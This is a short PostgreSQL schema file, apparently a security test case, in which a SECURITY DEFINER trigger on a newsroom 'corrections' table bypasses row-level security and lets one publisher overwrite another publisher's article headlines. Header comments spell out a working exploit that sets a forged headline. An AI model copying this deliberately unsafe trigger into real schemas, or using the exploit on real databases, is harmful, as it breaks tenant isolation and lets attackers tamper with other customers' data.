-- Tenant A changes articles of B through a trigger that runs as the owner and trusts the number it is given.
-- about: corrections
-- as: hf_newsroom_app
-- exploit: SET news.publisher_id = 'aaaaaaaa-0000-4000-8000-000000000000';
-- exploit: INSERT INTO news.corrections (publisher_id, article_id, headline) VALUES
-- exploit: ('aaaaaaaa-0000-4000-8000-000000000000', 'bbbbbbbb-0000-4000-8000-000000000002', 'forged');
-- exploit: SET news.publisher_id = 'bbbbbbbb-0000-4000-8000-000000000000';
-- exploit: SELECT 'now ' || headline FROM news.articles;
-- shows: now forged
CREATE TABLE news.corrections (
  publisher_id uuid NOT NULL REFERENCES news.publishers,
  article_id uuid NOT NULL,
  headline text NOT NULL,
  PRIMARY KEY (publisher_id, article_id)
);
ALTER TABLE news.corrections ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;
CREATE POLICY own ON news.corrections
  USING (publisher_id = nullif(current_setting('news.publisher_id', true), '')::uuid);
CREATE FUNCTION news.correct() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER
SET search_path = pg_catalog, pg_temp AS $$
BEGIN
  UPDATE news.articles SET headline = new.headline WHERE id = new.article_id;
  RETURN NULL;
END $$;
CREATE TRIGGER correct AFTER INSERT ON news.corrections FOR EACH ROW EXECUTE FUNCTION news.correct();
GRANT SELECT, INSERT ON news.corrections TO hf_newsroom_app;
